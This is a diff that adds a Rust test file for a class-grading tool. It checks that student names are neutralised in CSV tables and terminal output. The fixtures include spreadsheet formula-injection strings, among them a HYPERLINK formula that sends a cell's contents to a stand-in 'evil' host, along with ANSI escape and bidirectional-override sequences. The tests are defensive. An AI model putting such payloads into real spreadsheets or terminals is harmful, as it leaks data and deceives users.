@@ -1,0 +1,58 @@
+//! Names of students that a spreadsheet would run and that would control a terminal.
+
+use std::fs;
+use std::process::Command;
+
+use super::{Class, SETTINGS};
+use testkit::common::terminal::Terminal;
+
+const STUDENTS: [(&str, &str, &str); 5] = [
+    ("ada", "=1+2", "@SUM(1)"),
+    (
+        "bob",
+        "\u{a0}=1",
+        "\"\u{a0}=HYPERLINK(\"\"http://evil/?\"\"&A1)\"",
+    ),
+    ("cyd", "\u{ff1d}1", "\u{ff20}a"),
+    ("dan", "-1", "+1"),
+    ("eve", "x\u{1b}[31m\u{202e}", "\u{1b}]0;evil\u{7}"),
+];
+
+#[test]
+fn no_name_is_a_formula_in_a_table() {
+    let class = Class::new(SETTINGS, &STUDENTS);
+    class.succeeds(&["site"]);
+    let pages = fs::read_to_string(class.path("private/pages.csv")).unwrap();
+    let grades = class.succeeds(&["grade"]);
+    for (table, columns) in [(&pages, [1].as_slice()), (&grades, &[1, 2])] {
+        let mut rows = table
+            .lines()
+            .skip(1)
+            .map(|line| line.splitn(4, ',').collect::<Vec<_>>());
+        for (id, _, _) in &STUDENTS[..4] {
+            let row = rows.next().unwrap();
+            assert_eq!(row[0], *id, "{table}");
+            for column in columns {
+                assert!(
+                    row[*column].trim_start_matches('"').starts_with('\''),
+                    "{table}"
+                );
+            }
+        }
+    }
+    // A program gets the name as it is.
+    assert!(grades.contains(STUDENTS[4].1), "{grades}");
+}
+
+#[test]
+fn no_name_controls_a_terminal() {
+    let class = Class::new(SETTINGS, &STUDENTS);
+    let mut command = Command::new(testkit::common::built("referee"));
+    command.args(["class", "grade", "-C"]).arg(class.path(""));
+    let (shown, _) = Terminal::sized((200, 24), command).ends();
+    assert!(shown.contains("x\\u{1b}[31m\\u{202e}"), "{shown:?}");
+    assert!(
+        !shown.contains(['\u{1b}', '\u{7}', '\u{202e}']),
+        "{shown:?}"
+    );
+}
